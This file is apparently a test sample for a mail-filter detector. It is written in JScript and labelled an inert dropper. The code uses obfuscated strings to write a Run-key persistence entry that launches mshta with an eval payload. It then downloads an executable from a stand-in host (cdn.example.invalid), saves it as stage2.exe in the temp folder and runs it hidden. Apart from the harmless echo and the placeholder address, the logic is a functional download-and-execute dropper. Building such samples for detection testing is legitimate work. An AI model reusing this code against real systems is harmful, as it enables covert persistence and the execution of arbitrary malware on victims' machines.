// Test dropper written for fileless-milter (inert), in ES2015: classes, let/const, arrow
// functions, template literals, destructuring, spread, default and rest parameters, for-of.
// The Run-key path, the launcher and the download URL exist only at run time.
'use strict';
const parts = new Map([['hive', 'HKCU'], ['soft', 'Software'], ['vendor', 'Microsoft']]);
const rot = (s, n = 1) => [...s].map(c => String.fromCharCode(c.charCodeAt(0) - n)).join('');
class Base {
  constructor(progid) { this.obj = new ActiveXObject(progid); }
  call(name, ...args) { return this.obj[name](...args); }
}
class Shell extends Base {
  constructor() { super(rot('XTdsjqu/Tifmm')); }
  persist({ key, value, type = 'REG_SZ' } = {}) { return super.call('RegWrite', key, value, type); }
  get temp() { return this.obj.ExpandEnvironmentStrings(`%${'TE' + 'MP'}%`); }
}
const sh = new Shell();
let path = [];
for (const [, v] of parts) path.push(v);
const [hive, ...rest] = path;
const key = `${hive}\\${rest.join('\\')}\\Windows\\CurrentVersion\\${rot('Svo')}\\${'up'}date`;
const launcher = ['mshta', `javascript:eval("WScript.Echo('inert test payload')")`];
sh.persist({ key, value: launcher.join(' ') });
const fetch = (url, { method = 'GET', sync = false } = {}) => {
  const h = new ActiveXObject(rot('NTYNM3/YNMIUUQ'));
  h.open(method, url, sync);
  h.send();
  return h;
};
const res = fetch(`http://${['cdn', 'example', 'invalid'].join('.')}/${rot('tubhf3')}.exe`);
const st = new ActiveXObject('ADODB.Stream');
st.Open(); st.Type = 1; st.Write(res.responseBody);
const file = `${sh.temp}\\stage2.exe`;
st.SaveToFile(file, 2);
sh.call('Run', file, 0, false);
